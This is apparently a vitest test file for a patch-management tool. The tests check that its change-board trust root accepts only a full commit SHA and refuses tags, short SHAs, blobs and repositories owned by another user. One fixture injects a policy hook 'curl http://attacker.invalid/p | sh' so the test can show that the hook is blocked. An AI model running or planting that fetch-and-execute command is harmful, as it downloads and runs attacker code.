// H1, L1, D28 (second review): the CAB trust root is a full commit SHA, never a name someone can move.
import { execFileSync } from "node:child_process";
import { beforeAll, beforeEach, describe, expect, it } from "vitest";
import { updateDoc } from "../helpers/documents.js";
import type { FakeGithub } from "../helpers/github-server.js";
import {
  approvals,
  base,
  change,
  git,
  installed,
  makeTemplate,
  ok,
  plan,
  pr,
  type Template,
  withFakeGithub,
} from "./trust-fixture.js";

let gh: FakeGithub;
let template: Template;
withFakeGithub("ghs_roottoken", (started) => (gh = started));
beforeAll(async () => {
  template = await makeTemplate();
});
beforeEach(() => {
  gh.pulls.length = 0;
  delete process.env.PATCHOPS_CAB_ROOT;
});

describe("the trust root cannot move (H1, L1)", () => {
  it("a tag is refused with exit 2 and one line saying to pin the SHA, from the option and from the environment", async () => {
    const { repo, root } = await base(gh, template);
    git(repo, "tag", "patchops-cab-root", root);
    const r = await plan(repo, "--cab-root", "patchops-cab-root");
    expect(r.code).toBe(2);
    expect(r.plan).toBeNull();
    expect(r.stderr.trim().split("\n")).toHaveLength(1);
    expect(r.stderr).toContain("--cab-root must be a full 40-hex commit SHA, not 'patchops-cab-root'");
    expect(r.stderr).toContain("pin the SHA");

    process.env.PATCHOPS_CAB_ROOT = "patchops-cab-root";
    const a = await approvals(repo);
    expect(a.code).toBe(2);
    expect(a.stderr).toContain("PATCHOPS_CAB_ROOT must be a full 40-hex commit SHA");
    // An abbreviated SHA names the same commit today, and maybe another one tomorrow: refused as well.
    process.env.PATCHOPS_CAB_ROOT = root.slice(0, 39);
    expect((await approvals(repo)).code).toBe(2);
    process.env.PATCHOPS_CAB_ROOT = "0000000";
    expect((await plan(repo)).stderr).toContain("must be a full 40-hex commit SHA");
  });

  it("the review's attack: moving the tag onto an under-approved merge changes nothing, because the SHA is pinned", async () => {
    const { repo, root } = await base(gh, template);
    const policy = execFileSync("cat", ["policies/policy.yaml"], { cwd: repo, encoding: "utf8" });
    const evil = await change(
      repo,
      {
        "policies/policy.yaml": `${policy}  hooks:\n    pre: [{ name: x, run: "curl http://attacker.invalid/p | sh" }]\n`,
      },
      "Mallory <mallory@example.com>",
    );
    gh.pulls.push(pr(7, [evil], [ok("carol")], "mallory"));
    const r = await plan(repo, "--cab-root", root);
    expect(JSON.stringify(r.jobs)).not.toContain("attacker.invalid");
    expect(r.plan.findings).toContainEqual(
      expect.objectContaining({ code: "policy-file-unverified", file: "policies/policy.yaml" }),
    );
    // What moving the tag would have done: a root at the evil commit. Only the SHA itself can say that, and
    // whoever changes the pinned SHA changes a workflow file, which needs the CAB.
    git(repo, "tag", "patchops-cab-root", evil);
    expect((await plan(repo, "--cab-root", "patchops-cab-root")).code).toBe(2);
  });

  it("a well-formed SHA that is no commit of the repository says so, not 'cab.yaml is not committed'", async () => {
    const { repo, kb100 } = await base(gh, template);
    const missing = "0123456789abcdef0123456789abcdef01234567";
    const r = await plan(repo, "--cab-root", missing);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`--cab-root ${missing} is not a commit in ${repo}`);
    expect(r.stderr).not.toContain("not committed");
    // A blob's id is an object, but not a commit.
    const blob = git(repo, "rev-parse", `${kb100}:policies/updates/kb100.yaml`);
    const b = await plan(repo, "--cab-root", blob);
    expect(b.code).toBe(2);
    expect(b.stderr).toContain("is not a commit in");
    // Upper case is the same SHA.
    const u = await plan(repo, "--cab-root", kb100.toUpperCase());
    expect(u.code).toBe(0);
    expect(installed(u.jobs)).toEqual(["KB100"]);
  });
});

describe("git refuses a repository owned by another user (D28)", () => {
  it("plan names git's dubious-ownership refusal instead of 'not a git repository'", async () => {
    if (process.getuid?.() !== 0) return expect.fail("this test chowns a repository: it runs as root in CI");
    const { repo } = await base(gh, template);
    await change(repo, { "policies/updates/kb101.yaml": updateDoc("KB101") });
    execFileSync("chown", ["-R", "65534:65534", repo]);
    const r = await plan(repo);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("dubious ownership");
    expect(r.stderr).toContain("safe.directory");
    expect(r.stderr).not.toContain("not a git repository with commits");
  });
});
